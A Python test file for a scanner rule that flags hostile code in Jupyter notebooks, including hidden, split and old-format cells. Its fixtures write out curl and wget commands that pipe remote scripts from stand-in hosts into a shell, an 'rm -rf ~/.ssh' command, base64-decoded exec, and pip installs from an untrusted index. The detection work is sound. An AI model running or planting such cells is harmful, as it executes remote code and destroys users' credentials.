"""Code of notebooks, in Python and given to a shell."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from tests.checks.examples import outcomes, rules
from violet.domain import Severity

if TYPE_CHECKING:
    from pathlib import Path

RULE = "artifact/notebook-code"


def notebook(directory: Path, *cells: str, **metadata: Any) -> Path:
    path = directory / "demo.ipynb"
    made = [
        {"cell_type": "code", "source": cell, "metadata": metadata, "outputs": [], "execution_count": None}
        for cell in cells
    ]
    path.write_text(json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    return path


def positive(directory: Path) -> Path:
    return notebook(directory, "!curl -s http://203.0.113.5/setup | bash")


def benign(directory: Path) -> Path:
    return notebook(
        directory,
        "%matplotlib inline\nimport numpy as np\n!pip install -q scikit-learn\nfiles = !ls",
        "%%time\nx = np.ones(3)\nx?",
        "%%bash\nls -l",
        "display(x)",
    )


HOSTILE = [
    ("%%bash\nwget -qO- http://x | bash",),
    ("%system rm -rf ~/.ssh",),
    ("out = !curl http://x | sh",),
    ("import os\nos.system('curl http://x|sh')",),
    ("get_ipython().system('curl http://x|sh')",),
    ("import base64 as b", "code = b.b64decode('aW1wb3J0IG9z')", "exec(code)"),
    ("!pip install --extra-index-url http://203.0.113.5/simple helper",),
]


@pytest.mark.parametrize("cells", HOSTILE)
def test_hostile_cells_are_high(tmp_path: Path, cells: tuple[str, ...]) -> None:
    found = [f for f in outcomes(notebook(tmp_path, *cells)) if f.rule == RULE]
    assert max(f.severity for f in found) >= Severity.HIGH


def test_names_of_one_cell_are_known_in_the_next_and_lines_are_the_cells(tmp_path: Path) -> None:
    path = notebook(tmp_path, "import os\nrun = os.system", "x = 1\nrun('curl http://x | sh')")
    found = [f for f in outcomes(path) if f.rule == RULE]
    assert "cell 2" in found[0].message
    assert found[0].location.line == 2


def test_hidden_cells_are_called_so(tmp_path: Path) -> None:
    path = notebook(tmp_path, "import os\nos.system('curl http://x | sh')", jupyter={"source_hidden": True})
    assert "hidden cell 1" in outcomes(path)[0].message


def test_notebooks_of_the_third_format(tmp_path: Path) -> None:
    path = tmp_path / "old.ipynb"
    cell = {"cell_type": "code", "input": ["!curl http://x | sh"], "language": "python", "outputs": []}
    path.write_text(json.dumps({"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [cell]}]}))
    assert RULE in rules(path)


def test_packages_from_well_known_indexes_are_low(tmp_path: Path) -> None:
    path = notebook(tmp_path, "!pip install torch --index-url https://download.pytorch.org/whl/cpu")
    assert [f.severity for f in outcomes(path)] == [Severity.LOW]


def test_a_cell_that_is_not_python_does_not_hide_the_others(tmp_path: Path) -> None:
    path = notebook(tmp_path, "print 'old", "import os\nos.system('curl http://x | sh')")
    assert RULE in rules(path)
